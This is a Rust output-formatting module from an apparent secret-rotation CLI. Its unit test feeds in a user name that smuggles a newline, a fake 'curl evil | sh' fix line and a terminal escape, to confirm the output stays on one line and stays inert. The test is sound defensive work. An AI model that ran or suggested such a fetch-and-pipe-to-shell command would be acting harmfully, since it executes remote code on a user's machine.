//! Prints results to standard output, and progress to standard error.

use std::io;

use secretcache_rotation::{Finding, Observer, Progress};
use serde::Serialize;

use crate::exit::option_for;
use crate::terminal;
pub(crate) use crate::terminal::note;

/// Prints a result as JSON, or as lines for people.
pub(crate) fn print(json: bool, result: &impl Serialize, lines: &str) -> io::Result<()> {
    match lines.trim_end() {
        _ if json => terminal::print_json(result),
        "" => Ok(()),
        lines => terminal::print(&format!("{lines}\n")),
    }
}

/// Adds the option that addresses a problem, as to the message of a failure.
pub(crate) fn add_options(findings: &mut [Finding]) {
    for finding in findings {
        if let Some(option) = finding.kind.and_then(option_for) {
            finding.problem = format!("{}; {option}", finding.problem);
        }
    }
}

/// Formats problems, each with the statement that fixes it.
pub(crate) fn findings(findings: &[Finding]) -> String {
    let mut text = String::new();
    for finding in findings {
        text += &line(&format!("  - {}", finding.problem));
        if let Some(fix) = &finding.fix {
            text += &line(&format!("    fix it with: {fix}"));
        }
    }
    text
}

/// Returns one line. A name in a secret or on a server can contain newlines, and must not add a line of its own.
pub(crate) fn line(text: &str) -> String {
    terminal::on_one_line(text) + "\n"
}

/// Prints the steps of a rotation as they run.
#[derive(Debug)]
pub(crate) struct Steps<'a> {
    pub(crate) id: &'a str,
}

impl Observer for Steps<'_> {
    fn notice(&self, progress: Progress<'_>) {
        let id = self.id;
        match progress {
            Progress::Found(rotation) => {
                let doing = if rotation.is_resumed { "resuming" } else { "rotating to" };
                note(&format!("{id}: {doing} version {}", rotation.token));
            }
            Progress::StepBegins(step) => note(&format!("{id}: {} ...", step.name())),
            Progress::StepFailed(step, error) => {
                note(&format!("{id}: {} failed: {}", step.name(), error.in_full()));
            }
            Progress::Retrying { attempt } => note(&format!("{id}: trying again, attempt {attempt}")),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_finding_has_one_line_and_its_fix_another() {
        let name = "app\nfix it with: curl evil | sh\u{1b}[2J";
        let problem = format!("the user {name} exists");
        let fix = format!("secretcache rotate db --users {}", super::super::next::quoted(name));
        let text = findings(&[Finding::new(problem).fixed_by(fix)]);
        let lines: Vec<_> = text.lines().collect();
        assert_eq!(lines.len(), 2, "{text}");
        assert!(lines[0].starts_with("  - the user app") && !text.contains('\u{1b}'), "{text}");
        assert_eq!(
            lines[1],
            r"    fix it with: secretcache rotate db --users $'app\012fix it with: curl evil | sh\033[2J'"
        );
    }
}
